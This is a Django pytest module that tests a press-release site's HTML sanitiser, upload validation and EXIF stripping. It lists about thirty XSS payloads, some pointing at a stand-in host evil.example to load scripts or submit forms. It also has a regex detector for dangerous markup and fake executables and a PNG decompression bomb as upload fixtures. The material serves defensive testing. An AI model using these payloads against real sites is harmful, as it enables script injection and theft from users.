"""Hostile input: XSS vectors through the save path to the public page, and upload attacks."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image

from humas.models import User
from humas.roles import Role
from releases.models import BodyImage, Release, ReleaseAttachment, ReleaseImage
from releases.services import release_update
from tests.factories.releases import PublishedReleaseFactory, ReleaseFactory
from tests.helpers import image_bytes, png_bomb_bytes

pytestmark = pytest.mark.django_db

XSS_VECTORS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="/unggahan/a.jpg" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JaVaScRiPt:alert(1)">klik</a>',
    '<a href="java&#x09;script:alert(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<p style="background:url(javascript:alert(1))">gaya</p>',
    '<div style="width: expression(alert(1))">ekspresi</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="x"><button>kirim</button></form>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<p onmouseover="alert(1)">arahkan</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '"><script>alert(1)</script>',
    "<!--<script>alert(1)</script>-->",
    '<img src="https://evil.example/track.png" alt="pelacak">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]
DANGEROUS = re.compile(
    r"<script|<svg|<math|<iframe|<object|<embed|<form|<style|<meta|<base|<link|<details|\son\w+\s*=|"
    r"javascript:|vbscript:|data:|expression\(|style=|evil\.example",
    re.IGNORECASE,
)


def test_xss_corpus_never_reaches_the_public_page(client: Client) -> None:
    release = PublishedReleaseFactory(title="Uji Keamanan Isi")
    writer = release.author
    Release.objects.filter(pk=release.pk).update(status=Release.Status.DRAFT)
    body = "".join(f"<p>vektor {n}</p>{vector}" for n, vector in enumerate(XSS_VECTORS))
    release_update(
        release_id=release.pk,
        actor=writer,
        title=release.title,
        lead=release.lead,
        body=body + '<p><a href="https://harapanjaya.go.id">tautan aman</a></p><h2>Judul</h2>',
        unit=release.unit,
        publish_at=release.publish_at,
    )
    release.refresh_from_db()
    assert not DANGEROUS.search(release.body), release.body
    assert 'href="https://harapanjaya.go.id"' in release.body and "<h2>Judul</h2>" in release.body
    assert "vektor 29" in release.body  # the text around the vectors survives
    Release.objects.filter(pk=release.pk).update(status=Release.Status.PUBLISHED)
    html = client.get(release.get_absolute_url()).content.decode()
    article = html[html.index('<article class="release-article"') : html.index("</article>")]
    assert not DANGEROUS.search(article), article


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_each_vector_is_neutralised_by_the_sanitiser(vector: str) -> None:
    from releases.sanitize import clean_html

    assert not DANGEROUS.search(clean_html(vector))


def test_title_and_lead_are_escaped_on_the_page(client: Client) -> None:
    release = PublishedReleaseFactory(title="<script>alert(1)</script>Judul", lead='"><img src=x onerror=alert(1)>')
    html = client.get(release.get_absolute_url()).content.decode()
    assert "<script>alert(1)" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;Judul" in html


def _truncated_jpeg() -> bytes:
    return image_bytes(1200, 900)[:3000]


def _exe() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\x00" * 2000
        + b"This program cannot be run in DOS mode"
    )


BAD_IMAGES = [
    ("bukan-foto.jpg", b"Ini hanya teks biasa yang diberi nama .jpg", "bukan gambar JPEG, PNG, atau WebP"),
    ("terpotong.jpg", _truncated_jpeg(), "bukan gambar JPEG, PNG, atau WebP"),
    ("raksasa.png", png_bomb_bytes(20_000), "Gambar terlalu besar"),
    ("besar.jpg", b"\xff\xd8\xff" + b"\x00" * (30 * 1024 * 1024), "Berkas terlalu besar"),
    ("program.jpg", _exe(), "bukan gambar JPEG, PNG, atau WebP"),
]


@pytest.mark.parametrize(("name", "content", "message"), BAD_IMAGES, ids=[b[0] for b in BAD_IMAGES])
def test_bad_photo_uploads_are_refused_with_a_clear_message_and_nothing_stored(
    client: Client, login_as: Callable[[Role], User], name: str, content: bytes, message: str
) -> None:
    writer = login_as(Role.WRITER)
    release = ReleaseFactory(author=writer)
    version = release.content_version
    response = client.post(
        reverse("releases:staff-image-add", args=[release.pk]),
        {"file": SimpleUploadedFile(name, content, content_type="image/jpeg"), "alt_text": "x"},
        follow=True,
    )
    assert message in response.content.decode()
    assert not ReleaseImage.objects.exists()
    assert Release.objects.get(pk=release.pk).content_version == version
    editor = client.post(reverse("releases:editor-image-upload"), {"upload": SimpleUploadedFile(name, content)})
    assert editor.status_code == 400 and message in editor.json()["error"]["message"]
    assert not BodyImage.objects.exists()


BAD_ATTACHMENTS = [
    ("program.pdf", _exe(), "Jenis berkas tidak diterima"),
    ("palsu.pdf", b"%PDF-1.4\n tanpa akhir berkas", "bukan PDF yang sah"),
    ("besar.pdf", b"%PDF-1.4\n" + b"0" * (30 * 1024 * 1024) + b"\n%%EOF", "Berkas terlalu besar"),
    ("laporan.docx", b"PK\x03\x04 bukan arsip", "bukan dokumen"),
    ("skrip.xlsx", b"<script>alert(1)</script>", "Jenis berkas tidak diterima"),
]


@pytest.mark.parametrize(("name", "content", "message"), BAD_ATTACHMENTS, ids=[b[0] for b in BAD_ATTACHMENTS])
def test_bad_attachments_are_refused_and_nothing_stored(
    client: Client, login_as: Callable[[Role], User], name: str, content: bytes, message: str
) -> None:
    writer = login_as(Role.WRITER)
    release = ReleaseFactory(author=writer)
    response = client.post(
        reverse("releases:staff-attachment-add", args=[release.pk]),
        {"file": SimpleUploadedFile(name, content), "title": "Lampiran"},
        follow=True,
    )
    assert message in response.content.decode()
    assert not ReleaseAttachment.objects.exists()


def test_published_photo_has_no_exif_location(client: Client, login_as: Callable[[Role], User]) -> None:
    writer = login_as(Role.WRITER)
    release = ReleaseFactory(author=writer)
    exif = Image.Exif()
    exif[0x8825] = {1: "S", 2: (6.0, 54.0, 50.0), 3: "E", 4: (107.0, 36.0, 30.0)}  # GPS IFD
    exif[0x010F] = "KameraMerek"
    buffer = io.BytesIO()
    Image.new("RGB", (2000, 1500), "green").save(buffer, "JPEG", exif=exif)
    with Image.open(io.BytesIO(buffer.getvalue())) as source:
        assert source.getexif().get_ifd(0x8825)  # the upload really carries a location
    client.post(
        reverse("releases:staff-image-add", args=[release.pk]),
        {"file": SimpleUploadedFile("gps.jpg", buffer.getvalue(), content_type="image/jpeg"), "alt_text": "x"},
    )
    image = ReleaseImage.objects.get()
    for rendition in (image.original, image.web, image.thumbnail):
        with Image.open(rendition.path) as stored:
            assert not stored.getexif().get_ifd(0x8825) and 0x010F not in stored.getexif()
            assert "exif" not in stored.info
    assert (image.width, image.height, image.web_width, image.thumbnail_width) == (2000, 1500, 1600, 480)
